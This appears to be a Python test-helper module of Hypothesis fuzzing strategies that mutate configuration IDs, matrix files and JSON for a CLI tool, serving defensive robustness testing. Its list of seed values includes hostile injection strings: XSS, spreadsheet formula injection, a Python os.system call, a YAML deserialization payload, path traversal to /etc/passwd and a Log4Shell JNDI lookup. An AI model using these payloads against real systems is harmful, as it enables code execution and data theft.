"""Which inputs would an enemy write? Strategies: built to be nearly right, mutated from what is right, or raw bytes."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Sequence
from typing import Any

from hypothesis import strategies as st

from gradcheck_cli import plugins
from gradcheck_cli.records.case import ALIASES, AXES

# What has broken readers before: nesting, integers that int() refuses, lines that only some call lines, marks of
# terminals, of Markdown, of HTML and of spreadsheets, names of devices, ways out of a folder.
LEAVES: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    1 << 31,
    1 << 63,
    1 << 64,
    10**400,
    1e308,
    -0.5,
    1e-320,
    "",
    "0",
    "\x1b[2J\x1b]0;title\x07",
    "\x9b31m",
    "a\u2028b\u2029c\x85d\x0be",
    "\u202eknil",
    "\x00",
    "<img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "</title></text><script>",
    "[click](javascript:alert(1))",
    "![x](http://evil/x.png)",
    "[bold red]loud[/bold red][/]",
    "[link=http://evil]x[/link]",
    "`code` | cell \\| **bold**",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1+1",
    "\t=1",
    "::error::x\n::set-output name=a::b",
    "__import__('os').system('id')",
    "!!python/object/apply:os.system ['id']",
    "../../etc/passwd",
    "/dev/zero",
    "CON",
    "{}",
    "%s%n",
    "${jndi:ldap://evil}",
    "x" * 5000,
    "[" * 3000,
    "9" * 5000,
    [],
    {},
    [[[]]],
    {"a": {"b": []}},
)
WORDS = (*AXES, *ALIASES, "cover", "block", "known", "description", "event", "schema", "not te:module", "\u0663")
TOKENS: tuple[bytes, ...] = (
    *(word.encode() for word in WORDS),
    *(str(leaf).encode()[:200] for leaf in LEAVES),
    *(b"[[", b"]]", b"[", b"]", b"{", b"}", b'"', b"'", b'"""', b"=", b",", b":", b"#", b"\\", b"\n", b"\r", b"\0"),
    *(b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xef\xbb\xbf", b"1e999", b"nan", b"inf", b"0x1", b"2027-06-30"),
    *(b"[" * 5000, b'{"a":' * 3000, b"9" * 6000, b"1979-05-27T07:32:00Z", b"not ", b"(", b")", b" and ", b" or "),
)

Mutator = Callable[[random.Random, bytes], bytes]


def mutated(*valid: bytes) -> st.SearchStrategy[bytes]:
    """One of these texts after a few edits of its bytes; or one of them as it is."""
    return st.builds(_mutate, st.sampled_from(valid), st.integers(0, 1 << 32), st.integers(0, 4))


def _mutate(text: bytes, seed: int, edits: int) -> bytes:
    dice = random.Random(seed)  # noqa: S311  nothing is kept secret with it
    for _ in range(edits):
        begin = dice.randrange(len(text) + 1)
        end = min(len(text), begin + dice.choice((0, 0, 1, 1, 2, 8, 40, 400)))
        other = dice.randrange(len(text) + 1)
        put = dice.choice(
            (b"", bytes([dice.randrange(256)]), dice.choice(TOKENS), text[other : other + 60], text[begin:end] * 2)
        )
        text = text[:begin] + put + text[end:]
    return text


def altered(*valid: Any) -> st.SearchStrategy[Any]:
    """One of these JSON values with a few of its parts replaced, dropped or added: as a reader of JSON sees it."""
    return st.builds(_alter, st.sampled_from(valid), st.integers(0, 1 << 32), st.integers(0, 3))


def _alter(value: Any, seed: int, edits: int) -> Any:
    dice = random.Random(seed)  # noqa: S311
    value = json.loads(json.dumps(value))
    for _ in range(edits):
        place = value
        while True:
            keys = list(place) if isinstance(place, dict) else list(range(len(place)))
            if not keys:
                break
            key = dice.choice(keys)
            deeper = isinstance(place[key], dict | list) and place[key]
            if deeper and dice.random() < 0.85:
                place = place[key]
                continue
            _edit(dice, place, key)
            break
    return value


def _edit(dice: random.Random, place: Any, key: Any) -> None:
    how = dice.randrange(6)
    if how == 0:
        del place[key]
    elif how == 1 and isinstance(place, dict):
        place[str(dice.choice(LEAVES))[:300]] = place[key]
    elif how == 2 and isinstance(place[key], int | float):
        place[key] = dice.choice((-1, 0, 1, 7, 1 << 40, -0.25, 1e30, 3.5))
    elif how == 3 and isinstance(place[key], str):
        place[key] = place[key] + str(dice.choice(LEAVES))[:300]
    else:
        place[key] = dice.choice(LEAVES)


def texts(words: Sequence[str]) -> st.SearchStrategy[str]:
    """Words of a grammar in any order, some of them foreign."""
    foreign = st.one_of(st.text(max_size=8), st.sampled_from([str(leaf)[:300] for leaf in LEAVES]))
    return st.lists(st.one_of(st.sampled_from(words), st.sampled_from(words), foreign), max_size=14).map(" ".join)


def values_of(axis: str) -> list[str]:
    """Some values that an axis has, as text."""
    allowed = plugins.allowed_values(axis)
    if axis == "m_splits":
        return ["balanced", "hot", "64,0,128", "1"]
    if allowed.startswith("a whole number"):
        return ["1", "2", "7", "16"]
    return allowed.split(" or ")


@st.composite
def ids(draw: st.DrawFn) -> str:
    """An id that is nearly one: any axes, most with a value that they have."""
    provider = draw(_mostly(["torch", "te"]))
    apis = list(plugins.BUILT_IN[provider].apis) if provider in plugins.BUILT_IN else values_of("api")
    parts = [provider, f"api={draw(_mostly(apis))}"]
    axes = draw(st.lists(st.sampled_from(AXES[2:]), max_size=6, unique=draw(st.booleans())))
    return ":".join([*parts, *(f"{axis}={draw(_mostly(values_of(axis)))}" for axis in axes)])


def _mostly(right: Sequence[str]) -> st.SearchStrategy[str]:
    wrong = st.one_of(st.sampled_from([str(leaf)[:9000] for leaf in LEAVES]), st.text(max_size=6))
    return st.integers(0, 49).flatmap(lambda n: wrong if n == 0 else st.sampled_from(list(right)))


@st.composite
def matrices(draw: st.DrawFn) -> bytes:
    """A matrix file that is nearly one."""
    lines = []
    for _ in range(draw(st.integers(0, 3))):
        lines.append(draw(_mostly(["[[block]]"])))
        for axis in draw(st.lists(st.one_of(st.sampled_from(AXES[1:]), _mostly(WORDS)), max_size=6, unique=True)):
            some = draw(st.lists(_mostly(values_of(axis) if axis in AXES else ["1", "2"]), min_size=1, max_size=4))
            written = [one if one.isdecimal() and draw(st.booleans()) else json.dumps(one) for one in some]
            lines.append(f"{axis} = {draw(_mostly(['[{}]'])).replace('{}', ', '.join(written))}")
    return "\n".join(lines).encode(errors="surrogatepass")
